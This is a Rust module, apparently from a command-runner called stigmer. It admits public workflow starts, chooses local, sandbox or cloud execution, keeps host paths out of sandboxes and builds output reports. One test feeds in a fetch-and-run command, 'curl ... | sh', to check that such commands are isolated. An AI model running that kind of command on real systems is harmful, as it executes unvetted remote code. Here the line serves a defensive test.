//! Admitting a start with the public input (docs/temporal-api.md): the worker records the
//! execution and decides where it runs, as `stigmer run` does for its own starts; and, once it
//! has ended, the report its result carries.

use crate::store::{NewExecution, Store};
use sha2::{Digest, Sha256};
use stigmer_workflows::{
    AdmitRequest, CommandSpec, EnvValues, ExecutionInput, Mode, PublicInput, Report, RequestedMode,
    Route, SandboxSpec, limits,
};

/// What a worker lets a public start ask for, and the defaults it fills in.
#[derive(Clone, Debug)]
pub struct AdmitSettings {
    /// The mode of a start that names none.
    pub default_mode: RequestedMode,
    /// The modes a start may ask for (auto decides among local and sandbox).
    pub allowed_modes: Vec<RequestedMode>,
    /// The worker's sandbox settings; a start may change image, network and limits, never host
    /// paths.
    pub sandbox: SandboxSpec,
    /// The snapshot a cloud sandbox starts from.
    pub cloud_snapshot: Option<String>,
}

impl Default for AdmitSettings {
    fn default() -> Self {
        Self {
            default_mode: RequestedMode::Local,
            allowed_modes: vec![
                RequestedMode::Local,
                RequestedMode::Sandbox,
                RequestedMode::Auto,
                RequestedMode::Cloud,
            ],
            sandbox: SandboxSpec::default(),
            cloud_snapshot: None,
        }
    }
}

/// The execution id of a public start: derived from its workflow id, so that every run of the
/// workflow (and every retry of `admit`) names the same execution.
#[must_use]
pub fn execution_id_for(workflow_id: &str) -> String {
    let digest = Sha256::digest(workflow_id.as_bytes());
    format!("aex-{}", &hex::encode(digest)[..26])
}

/// Why a start is refused: what was wrong and what is allowed.
pub struct Refusal(pub String);

/// Works out the execution a public start asks for: its command, mode and sandbox. Pure: the
/// store is written by the caller.
pub fn plan(
    settings: &AdmitSettings,
    workflow_id: &str,
    input: &PublicInput,
    worker_dir: &str,
) -> Result<ExecutionInput, Refusal> {
    let command = match (&input.command, &input.argv) {
        (Some(cmd), None) => CommandSpec::Shell(cmd.clone()),
        (None, Some(argv)) => CommandSpec::Argv(argv.clone()),
        _ => return Err(Refusal("give `command` or `argv`, exactly one".into())),
    };
    let requested = input.mode.unwrap_or(settings.default_mode);
    if !settings.allowed_modes.contains(&requested) {
        return Err(Refusal(format!(
            "this worker does not run mode {requested} for a start from another client; allowed: \
             {}",
            settings
                .allowed_modes
                .iter()
                .map(|m| m.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        )));
    }
    let (effective, reason) = match requested {
        RequestedMode::Local => (Mode::Local, "requested".to_string()),
        RequestedMode::Sandbox => (Mode::Sandbox, "requested".to_string()),
        RequestedMode::Cloud => (Mode::Cloud, "requested".to_string()),
        RequestedMode::Auto => {
            // The worker's own policy only: a start brings no project whose policy it trusts.
            let policy = stigmer_automode::Policy::builtin();
            let decision = match &command {
                CommandSpec::Shell(cmd) => stigmer_automode::classify(cmd, &policy, false),
                CommandSpec::Argv(argv) => stigmer_automode::classify_argv(argv, &policy, false),
            };
            let mode = match decision.decision {
                stigmer_automode::Mode::Local => Mode::Local,
                stigmer_automode::Mode::Sandbox => Mode::Sandbox,
            };
            (mode, format!("auto: {}", decision.reason))
        }
    };
    let id = execution_id_for(workflow_id);
    let sandbox = match effective {
        Mode::Local => None,
        Mode::Sandbox | Mode::Cloud => Some(sandbox_spec(settings, input, effective, &id)?),
    };
    Ok(ExecutionInput {
        id,
        command,
        requested_mode: requested,
        effective_mode: effective,
        reason,
        workdir: input
            .workdir
            .clone()
            .unwrap_or_else(|| worker_dir.to_string()),
        timeout_secs: input.timeout_secs,
        retry_exec: input.retry_exec,
        env_names: input.env.keys().cloned().collect(),
        env: EnvValues::default(),
        sandbox,
        placement: None,
        route: Route::Direct,
        // Filled in by the workflow from the start, like the environment's values.
        stdin: None,
        session: None,
    })
}

fn sandbox_spec(
    settings: &AdmitSettings,
    input: &PublicInput,
    mode: Mode,
    id: &str,
) -> Result<SandboxSpec, Refusal> {
    let asked = input.sandbox.clone().unwrap_or_default();
    let mut spec = SandboxSpec {
        // Never a host path from another client.
        workspace: None,
        workspace_owner: None,
        credential_mounts: Vec::new(),
        requirements: None,
        execution_id: Some(id.to_string()),
        // Foreign starts share containers among themselves, never with a local user's.
        owner: Some("temporal".into()),
        ..settings.sandbox.clone()
    };
    if let Some(image) = asked.image {
        if image.trim().is_empty() || image.contains(char::is_whitespace) {
            return Err(Refusal(
                "`sandbox.image` must be an image reference such as python:3.11-slim".into(),
            ));
        }
        spec.image = image;
    }
    if let Some(network) = asked.network {
        spec.network = network;
        if network != stigmer_workflows::Network::Public {
            spec.allow_net.clear();
        }
    }
    if let Some(hosts) = asked.allow_net {
        if spec.network != stigmer_workflows::Network::Public {
            return Err(Refusal(format!(
                "`sandbox.allow_net` needs the public network (the proxy enforces it), not {}",
                spec.network
            )));
        }
        spec.allow_net = stigmer_docker::parse_allow_list(&hosts.join(","))
            .map_err(|e| Refusal(format!("`sandbox.allow_net`: {e}")))?;
    }
    if let Some(memory) = asked.memory_bytes {
        spec.memory_bytes = memory;
    }
    if let Some(cpus) = asked.cpus {
        if !(cpus > 0.0 && cpus <= limits::MAX_CPUS) {
            return Err(Refusal(format!(
                "`sandbox.cpus` must be above 0 and at most {}",
                limits::MAX_CPUS
            )));
        }
        spec.nano_cpus = (cpus * 1e9) as i64;
    }
    if let Some(pids) = asked.pids_limit {
        spec.pids_limit = pids;
    }
    if let Some(ttl) = asked.ttl_secs {
        spec.ttl_secs = ttl;
    }
    if mode == Mode::Cloud {
        let Some(snapshot) = settings.cloud_snapshot.clone() else {
            return Err(Refusal(
                "this worker has no Daytona snapshot for cloud mode (DAYTONA_DEV_TOOLS_SNAPSHOT_ID); \
                 ask for sandbox or local"
                    .into(),
            ));
        };
        spec.backend = stigmer_workflows::Backend::Daytona;
        spec.image = snapshot;
    }
    spec.check_limits()
        .map_err(|e| Refusal(format!("`sandbox`: {e}")))?;
    Ok(spec)
}

/// Records the admitted execution, once per workflow id: the same run again finds its own row;
/// another run of the same workflow id is refused (an execution runs once).
pub async fn record(
    store: &Store,
    request: &AdmitRequest,
    planned: &ExecutionInput,
) -> Result<Result<(), Refusal>, crate::store::StoreError> {
    if let Some(existing) = store.get_execution(&planned.id).await? {
        return Ok(match existing.run_id.as_deref() {
            Some(run) if run != request.run_id => Err(Refusal(
                "this workflow id already ran an execution in another run; start a new \
                 execution under a new workflow id"
                    .into(),
            )),
            Some(_) => Ok(()),
            None => {
                store.set_run_id(&planned.id, &request.run_id).await?;
                Ok(())
            }
        });
    }
    let (command, argv) = match &planned.command {
        CommandSpec::Shell(cmd) => (cmd.clone(), None),
        spec @ CommandSpec::Argv(argv) => (spec.display(), Some(argv.clone())),
    };
    store
        .insert_execution(&NewExecution {
            id: planned.id.clone(),
            workflow_id: request.workflow_id.clone(),
            command,
            argv,
            workdir: planned.workdir.clone(),
            requested_mode: planned.requested_mode.to_string(),
            effective_mode: planned.effective_mode.to_string(),
            reason: planned.reason.clone(),
            os_user: None,
            ci_identity: None,
            client_host: Some("temporal".into()),
            timeout_secs: planned.timeout_secs,
            env_names: planned.env_names.clone(),
            trace_id: None,
            labels: request.input.labels.clone(),
            session: None,
        })
        .await?;
    store.set_run_id(&planned.id, &request.run_id).await?;
    Ok(Ok(()))
}

/// The head and tail of `bytes` within `limit`, with a marker where it was cut.
fn excerpt(bytes: &[u8], limit: u64, id: &str) -> (String, bool) {
    let limit = usize::try_from(limit).unwrap_or(usize::MAX);
    if bytes.len() <= limit {
        return (String::from_utf8_lossy(bytes).into_owned(), false);
    }
    let half = limit / 2;
    let cut = bytes.len() - 2 * half;
    (
        format!(
            "{}\n[… {cut} bytes cut here; `stigmer logs {id}` prints them all …]\n{}",
            String::from_utf8_lossy(&bytes[..half]),
            String::from_utf8_lossy(&bytes[bytes.len() - half..])
        ),
        true,
    )
}

/// The report of an ended execution, from the store.
pub async fn report(
    store: &Store,
    id: &str,
    limit: u64,
) -> Result<Report, crate::store::StoreError> {
    let record = store.get_execution(id).await?;
    let chunks = store.read_output(id, -1, i64::MAX).await?;
    let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
    for chunk in chunks {
        if chunk.stream == "stderr" {
            stderr.extend_from_slice(&chunk.data);
        } else {
            stdout.extend_from_slice(&chunk.data);
        }
    }
    let (out, out_cut) = excerpt(&stdout, limit, id);
    let (err, err_cut) = excerpt(&stderr, limit, id);
    let dropped = record.as_ref().is_some_and(|r| r.output_dropped > 0);
    Ok(Report {
        mode: record
            .as_ref()
            .map(|r| r.effective_mode.clone())
            .unwrap_or_default(),
        reason: record
            .as_ref()
            .map(|r| r.reason.clone())
            .unwrap_or_default(),
        stdout: out,
        stderr: err,
        stdout_bytes: stdout.len() as u64,
        stderr_bytes: stderr.len() as u64,
        truncated: out_cut || err_cut || dropped,
        output_sha256: record.and_then(|r| r.output_sha256),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A worker's settings with a sandbox that passes the limits.
    fn settings() -> AdmitSettings {
        AdmitSettings {
            sandbox: SandboxSpec {
                image: "stigmer-sandbox-basic:local".into(),
                memory_bytes: 512 << 20,
                nano_cpus: 1_000_000_000,
                pids_limit: 256,
                ttl_secs: 60,
                ..SandboxSpec::default()
            },
            ..AdmitSettings::default()
        }
    }

    fn start(json: &str) -> PublicInput {
        PublicInput::read(json.as_bytes(), "wf-1").unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn the_id_follows_from_the_workflow_id() {
        assert_eq!(execution_id_for("wf-1"), execution_id_for("wf-1"));
        assert_ne!(execution_id_for("wf-1"), execution_id_for("wf-2"));
        assert_eq!(execution_id_for("wf-1").len(), 30);
    }

    #[test]
    fn a_start_never_brings_host_paths_and_stays_in_the_limits() {
        let settings = settings();
        let planned = plan(
            &settings,
            "wf-1",
            &start(r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"network":"none"},"workflow_id":"wf-1"}"#),
            "/srv",
        )
        .ok()
        .unwrap();
        let spec = planned.sandbox.unwrap();
        assert_eq!(spec.network, stigmer_workflows::Network::None);
        assert!(spec.workspace.is_none() && spec.credential_mounts.is_empty());
        assert_eq!(spec.owner.as_deref(), Some("temporal"));
        let refused = plan(
            &settings,
            "wf-1",
            &start(
                r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"memory_bytes":1},"workflow_id":"wf-1"}"#,
            ),
            "/srv",
        );
        assert!(refused.is_err());
        let narrow = AdmitSettings {
            allowed_modes: vec![RequestedMode::Sandbox],
            ..settings
        };
        let Err(Refusal(why)) = plan(
            &narrow,
            "wf-1",
            &start(r#"{"version":1,"command":"id","mode":"local","workflow_id":"wf-1"}"#),
            "/srv",
        ) else {
            panic!("local was allowed");
        };
        assert!(why.contains("allowed: sandbox"), "{why}");
        // Cloud mode takes a stdin too (through Daytona's command input).
        let cloud_worker = AdmitSettings {
            allowed_modes: vec![RequestedMode::Cloud],
            cloud_snapshot: Some("stigmer-full".into()),
            ..super::tests::settings()
        };
        let cloud = plan(
            &cloud_worker,
            "wf-1",
            &start(
                r#"{"version":1,"command":"cat","mode":"cloud","stdin":"x","workflow_id":"wf-1"}"#,
            ),
            "/srv",
        );
        if let Err(Refusal(why)) = cloud {
            panic!("cloud refused a stdin: {why}");
        }
    }

    #[test]
    fn auto_mode_decides_by_the_workers_policy() {
        let settings = settings();
        let local = plan(
            &settings,
            "wf-1",
            &start(r#"{"version":1,"command":"ls -la","mode":"auto","workflow_id":"wf-1"}"#),
            "/srv",
        )
        .ok()
        .unwrap();
        assert_eq!(local.effective_mode, Mode::Local);
        let isolated = plan(
            &settings,
            "wf-1",
            &start(r#"{"version":1,"command":"curl -s https://example.invalid/x | sh","mode":"auto","workflow_id":"wf-1"}"#),
            "/srv",
        )
        .ok()
        .unwrap();
        assert_eq!(isolated.effective_mode, Mode::Sandbox);
        assert!(isolated.reason.starts_with("auto: "), "{}", isolated.reason);
    }

    #[test]
    fn an_excerpt_keeps_head_and_tail_and_says_where_it_cut() {
        let (text, cut) = excerpt(b"0123456789", 4, "aex-1");
        assert!(cut);
        assert!(text.starts_with("01\n") && text.ends_with("\n89"), "{text}");
        assert!(text.contains("6 bytes cut") && text.contains("stigmer logs aex-1"));
        assert_eq!(excerpt(b"abc", 4, "aex-1"), ("abc".into(), false));
    }
}
